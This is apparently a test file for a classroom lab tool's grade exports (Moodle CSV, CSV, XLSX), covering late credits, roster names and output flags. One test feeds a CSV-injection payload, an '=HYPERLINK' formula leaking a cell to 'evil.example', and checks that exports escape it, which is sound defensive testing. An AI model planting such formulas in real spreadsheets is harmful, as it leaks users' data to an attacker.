import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm, stat } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { check, type CheckOptions } from '../../src/commands/check.js';
import type { Board } from '../../src/core/board-model.js';
import { BASE, fakeClass, testContext } from '../helpers/fake-class.js';
import { FakeEngine } from '../helpers/fake-engine.js';
import { greetAs } from '../helpers/greeters.js';
import { personAt, parseRoster, saveRoster } from '../../src/core/roster.js';
import { LabctlError } from '../../src/errors.js';
import { boardCsv, boardTable } from '../../src/ui/board.js';
import { boardXlsx, moodleCsv } from '../../src/ui/grades.js';
import { Reporter } from '../../src/ui/reporter.js';

const exercises = [
  { id: 'smtp-simple', title: 'Envoyer un message simple' },
  { id: 'pop-login', title: 'Se connecter en POP3' },
];
const result = (done: boolean[]) =>
  exercises.map((e, i) => ({ ...e, done: done[i]!, at: done[i] ? '2026-11-26T09:52:41.000Z' : null, evidence: null }));

/** Times of the credits below. */
const T1 = '2026-11-26T09:52:41.000Z';
const T2 = '2026-11-26T10:05:12.000Z';
const LATE = '2026-11-26T12:01:30.000Z';

/**
 * Four seats: two people from the roster (one with a comma in the name), one free seat, and a person whose POP3
 * login came only after the session's end (their sidecar says afterEnd: not done, and when).
 */
const board: Board = {
  class: 'ro1',
  lab: 'smtp-pop-imap',
  exercises,
  stuckAfterMinutes: 15,
  shares: [],
  students: [
    {
      student: 1,
      name: 'Dupont, Jean',
      email: 'jean.dupont@etud.example.fr',
      number: '22001',
      group: 'TD1',
      exercises: [
        { ...exercises[0]!, done: true, at: T1, evidence: 'message A reçu' },
        { ...exercises[1]!, done: true, at: T2, evidence: 'connexion POP3 de util11' },
      ],
    },
    {
      student: 2,
      name: 'Zoé Martin',
      email: 'zoe.martin@etud.example.fr',
      number: '22002',
      error: 'sidecar down (ECONNREFUSED)',
      exercises: result([false, false]),
    },
    { student: 3, exercises: result([true, false]) },
    {
      student: 4,
      name: 'Luc Petit',
      email: 'luc.petit@etud.example.fr',
      number: '22004',
      group: 'TD2',
      exercises: [
        { ...exercises[0]!, done: true, at: T1, evidence: 'message B reçu' },
        { ...exercises[1]!, done: false, at: LATE, evidence: 'connexion POP3 de util14', afterEnd: true },
      ],
    },
  ],
};

describe('grades out', () => {
  it('writes a Moodle CSV: e-mail and ID number to match users by, a column per exercise, a total, then the times', () => {
    const { csv, rows, skipped } = moodleCsv(board);
    assert.equal(rows, 3);
    assert.deepEqual(skipped, [3]);
    const lines = csv.split('\n');
    assert.equal(
      lines[0],
      'Email address,ID number,Full name,smtp-simple,pop-login,Total,smtp-simple time,pop-login time',
    );
    assert.equal(lines[1], `jean.dupont@etud.example.fr,22001,"Dupont, Jean",1,1,2,${T1},${T2}`);
    assert.equal(lines[2], 'zoe.martin@etud.example.fr,22002,Zoé Martin,0,0,0,,');
    // Proved after the end: not done, not counted, and its late time marked.
    assert.equal(lines[3], `luc.petit@etud.example.fr,22004,Luc Petit,1,0,1,${T1},${LATE} (après la fin)`);
    assert.equal(lines[4], '');
    assert.equal(lines.length, 5);
    // What a CSV reader (Moodle's, or ours) sees.
    const records = parse(csv, { columns: true }) as Record<string, string>[];
    assert.deepEqual(records[0], {
      'Email address': 'jean.dupont@etud.example.fr',
      'ID number': '22001',
      'Full name': 'Dupont, Jean',
      'smtp-simple': '1',
      'pop-login': '1',
      Total: '2',
      'smtp-simple time': T1,
      'pop-login time': T2,
    });
    // Every column Moodle may import as a grade is a number on every row; only the time columns hold text.
    for (const r of records)
      for (const column of ['smtp-simple', 'pop-login', 'Total']) assert.match(r[column]!, /^\d+$/, column);
  });

  it('keeps formulas a student wrote into the class list as text, in both CSVs', () => {
    // A student who filled in the enrolment form with spreadsheet formulas, as the class list then holds them.
    const [evil] = parseRoster(
      'nom;email;numero;groupe\n' +
        '"=HYPERLINK(""http://evil.example/?""&B3,""Voir ma note"")";eve@etud.example.fr;@SUM(1+1);-2+3\n',
      'l3.csv',
    );
    assert.ok(evil);
    const sheet: Board = {
      ...board,
      students: [
        {
          student: 1,
          ...personAt({ class: 'ro1', importedAt: '', source: '', people: [evil] }, 1),
          exercises: result([true, false]),
        },
      ],
    };
    const cells = [
      ...parse(moodleCsv(sheet).csv, { relax_column_count: true }).flat(),
      ...parse(boardCsv(sheet), { relax_column_count: true }).flat(),
    ] as string[];
    const formulas = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
    assert.deepEqual(formulas, [], 'a spreadsheet would run these');
    assert.ok(cells.includes(`'=HYPERLINK("http://evil.example/?"&B3,"Voir ma note")`), cells.join(' | '));
    assert.ok(cells.includes("'@SUM(1+1)") && cells.includes("'-2+3"), cells.join(' | '));
  });

  it('writes nothing for Moodle without a roster', () => {
    const { rows, skipped } = moodleCsv({ ...board, students: [{ student: 1, exercises: result([true, true]) }] });
    assert.equal(rows, 0);
    assert.deepEqual(skipped, [1]);
  });

  it('writes a spreadsheet that reads back with the names, 1/0 per exercise, the totals and the times', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await boardXlsx(board)) as unknown as Parameters<typeof book.xlsx.load>[0]);
    const sheet = book.getWorksheet('Grades')!;
    const row = (n: number) => (sheet.getRow(n).values as unknown[]).slice(1);
    assert.deepEqual(row(1), [
      'student',
      'name',
      'email',
      'number',
      'group',
      'smtp-simple',
      'pop-login',
      'done',
      'total',
      'status',
      'smtp-simple time',
      'pop-login time',
    ]);
    assert.deepEqual(row(2), [
      1,
      'Dupont, Jean',
      'jean.dupont@etud.example.fr',
      '22001',
      'TD1',
      1,
      1,
      2,
      2,
      'ok',
      T1,
      T2,
    ]);
    assert.deepEqual(row(3), [
      2,
      'Zoé Martin',
      'zoe.martin@etud.example.fr',
      '22002',
      '',
      0,
      0,
      0,
      2,
      'sidecar down (ECONNREFUSED)',
      '',
      '',
    ]);
    assert.deepEqual(row(4), [3, '', '', '', '', 1, 0, 1, 2, 'ok', '2026-11-26T09:52:41.000Z', '']);
    assert.deepEqual(row(5), [
      4,
      'Luc Petit',
      'luc.petit@etud.example.fr',
      '22004',
      'TD2',
      1,
      0,
      1,
      2,
      'ok',
      T1,
      `${LATE} (après la fin)`,
    ]);
    // The late time stands out; an ordinary one does not.
    assert.equal(sheet.getRow(5).getCell(12).font?.color?.argb, 'FFB54708');
    assert.equal(sheet.getRow(5).getCell(11).font?.color, undefined);
    assert.equal(sheet.rowCount, 5);
    const legend = book.getWorksheet('Exercises')!;
    assert.deepEqual((legend.getRow(3).values as unknown[]).slice(1), ['pop-login', 'Se connecter en POP3']);
  });

  it('shows names on the board and in the grading sheet when there is a roster, and not otherwise', () => {
    assert.match(boardTable(board), /^student +name +1 +2 +total$/m);
    assert.match(boardTable(board), /^1 +Dupont, Jean +✔ +✔ +2\/2$/m);
    assert.match(boardTable(board), /^4 +Luc Petit +✔ +! +1\/2$/m, 'proved after the end: not done');
    assert.match(boardTable(board), /^3 +✔ +· +1\/2$/m);
    const csv = boardCsv(board).split('\n');
    assert.equal(
      csv[0],
      'student,name,email,number,group,smtp-simple,pop-login,done,total,status,smtp-simple time,pop-login time',
    );
    assert.equal(csv[1], `1,"Dupont, Jean",jean.dupont@etud.example.fr,22001,TD1,1,1,2,2,ok,${T1},${T2}`);
    assert.equal(csv[2], '2,Zoé Martin,zoe.martin@etud.example.fr,22002,,0,0,0,2,sidecar down (ECONNREFUSED),,');
    assert.equal(csv[3], '3,,,,,1,0,1,2,ok,2026-11-26T09:52:41.000Z,');
    assert.equal(csv[4], `4,Luc Petit,luc.petit@etud.example.fr,22004,TD2,1,0,1,2,ok,${T1},${LATE} (après la fin)`);
    const anonymous = { ...board, students: [{ student: 3, exercises: result([true, false]) }] };
    assert.equal(
      boardCsv(anonymous).split('\n')[0],
      'student,smtp-simple,pop-login,done,total,status,smtp-simple time,pop-login time',
    );
    assert.doesNotMatch(boardTable(anonymous), /name/);
  });
});

describe('check --format, through its context, with stand-in sidecars', () => {
  /** What a student's sidecar answers: smtp-simple credited at `simple`, smtp-subject proved after the end. */
  const answer = (student: number, simple: string | null, late: string | null) => ({
    class: 'gr',
    student,
    lab: 'smtp-pop-imap',
    title: 'TD',
    done: simple ? 1 : 0,
    total: 12,
    exercises: [
      { id: 'smtp-simple', title: 'a', done: simple !== null, at: simple, evidence: simple && 'message 1A2B reçu' },
      {
        id: 'smtp-subject',
        title: 'b',
        done: false,
        at: late,
        evidence: late && 'message 3C4D reçu, avec un sujet',
        ...(late && { afterEnd: true }),
      },
    ],
  });
  const web = (n: number) => ({ web: BASE + n * 100 + 80 });
  let engine: FakeEngine;
  let dir: string;
  let close: (() => Promise<void>)[] = [];
  before(async () => {
    engine = new FakeEngine();
    await fakeClass(engine, { className: 'gr', students: 2 });
    await saveRoster(
      engine,
      'gr',
      parseRoster(
        'nom,email,numero\nJean Dupont,jean@etud.example.fr,22001\nZoé Martin,zoe@etud.example.fr,22002\n',
        'l.csv',
      ),
      'l.csv',
    );
    dir = await mkdtemp(path.join(os.tmpdir(), 'labctl-grades-'));
    close = await Promise.all([greetAs(1, web(1), answer(1, T1, LATE)), greetAs(2, web(2), answer(2, null, null))]);
  });
  after(async () => {
    await Promise.all(close.map((c) => c()));
    await rm(dir, { recursive: true, force: true });
  });

  it('gives the time of each credit, and the late one marked and not counted, in csv, moodle and xlsx', async () => {
    const moodle = testContext(engine);
    await check({ className: 'gr', format: 'moodle' }, moodle.ctx);
    const rows = parse(moodle.stdout(), { columns: true }) as Record<string, string>[];
    assert.equal(rows.length, 2);
    const [jean, zoe] = rows;
    assert.equal(jean!['Email address'], 'jean@etud.example.fr');
    assert.deepEqual(
      [jean!['smtp-simple'], jean!['smtp-subject'], jean!.Total],
      ['1', '0', '1'],
      'proved after the end: no point',
    );
    assert.equal(jean!['smtp-simple time'], T1);
    assert.equal(jean!['smtp-subject time'], `${LATE} (après la fin)`);
    assert.equal(jean!['pop-login time'], '', 'not done: no time');
    assert.deepEqual([zoe!.Total, zoe!['smtp-simple time'], zoe!['smtp-subject time']], ['0', '', '']);

    const sheet = testContext(engine);
    await check({ className: 'gr', format: 'csv' }, sheet.ctx);
    const graded = parse(sheet.stdout(), { columns: true }) as Record<string, string>[];
    assert.deepEqual(
      [graded[0]!['smtp-simple'], graded[0]!['smtp-subject'], graded[0]!.done, graded[0]!['smtp-subject time']],
      ['1', '0', '1', `${LATE} (après la fin)`],
    );

    const file = path.join(dir, 'notes.xlsx');
    await check({ className: 'gr', format: 'xlsx', output: file }, testContext(engine).ctx);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await readFile(file)) as unknown as Parameters<typeof book.xlsx.load>[0]);
    const grades = book.getWorksheet('Grades')!;
    const header = (grades.getRow(1).values as unknown[]).slice(1);
    const cell = (column: string) => (grades.getRow(2).values as unknown[]).slice(1)[header.indexOf(column)];
    assert.deepEqual(
      [cell('smtp-simple'), cell('smtp-subject'), cell('done'), cell('smtp-simple time'), cell('smtp-subject time')],
      [1, 0, 1, T1, `${LATE} (après la fin)`],
    );
  });
});

describe('reporter: file-shaped output', () => {
  const sink = (isTTY: boolean) => {
    const chunks: (string | Uint8Array)[] = [];
    return { chunks, isTTY, write: (c: string | Uint8Array) => chunks.push(c) };
  };

  it('refuses binary output to a terminal, and writes it to a pipe', async () => {
    const tty = sink(true);
    await assert.rejects(
      new Reporter({ stdout: tty }).output({
        content: Buffer.from([0x50, 0x4b]),
        what: 'the spreadsheet',
        binary: true,
      }),
      (error: unknown) =>
        error instanceof LabctlError && error.exitCode === 2 && /Not writing the spreadsheet/.test(error.message),
    );
    assert.equal(tty.chunks.length, 0);
    await new Reporter({ stdout: tty }).output({ content: 'a,b\n', what: 'a CSV' });
    assert.deepEqual(tty.chunks, ['a,b\n']);
    const pipe = sink(false);
    await new Reporter({ stdout: pipe }).output({ content: Buffer.from([0x50, 0x4b]), what: 'x', binary: true });
    assert.deepEqual(pipe.chunks, [Buffer.from([0x50, 0x4b])]);
  });

  it('writes to --output, readable by its owner only, and says where', async () => {
    const dir = await mkdtemp(path.join(os.tmpdir(), 'ro-grades-'));
    try {
      const file = path.join(dir, 'notes.xlsx');
      const out = sink(true);
      await new Reporter({ stdout: out, quiet: true }).output({
        content: Buffer.from('PK'),
        what: 'x',
        file,
        binary: true,
      });
      assert.equal(await readFile(file, 'utf8'), 'PK');
      assert.equal((await stat(file)).mode & 0o777, 0o600);
      assert.equal(out.chunks.length, 0);
      await assert.rejects(
        new Reporter({ quiet: true }).output({ content: 'x', what: 'x', file: path.join(dir, 'no', 'such', 'dir') }),
        /Cannot write .*no\/such\/dir/,
      );
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('check: output flags', () => {
  // Every one of these is refused before the engine is asked anything.
  const engine = new FakeEngine();
  const { ctx } = testContext(engine);
  for (const [flags, message] of [
    [{ csv: true, format: 'xlsx' }, /--csv is --format csv: it does not go with --format xlsx/],
    [{ json: true, format: 'moodle' }, /--json and --format moodle are two different outputs/],
    [{ output: 'x.csv' }, /--output writes a file: give --format csv, moodle or xlsx/],
    [{ watch: true, format: 'csv' }, /--watch draws the board on a terminal/],
    [{ watch: true, csv: true }, /--watch draws the board on a terminal/],
  ] as [CheckOptions, RegExp][]) {
    it(`refuses ${JSON.stringify(flags)} with exit 2`, async () => {
      await assert.rejects(
        check({ className: 'ro1', ...flags }, ctx),
        (error: unknown) => error instanceof LabctlError && error.exitCode === 2 && message.test(error.message),
      );
      assert.deepEqual(engine.asked, []);
    });
  }
});
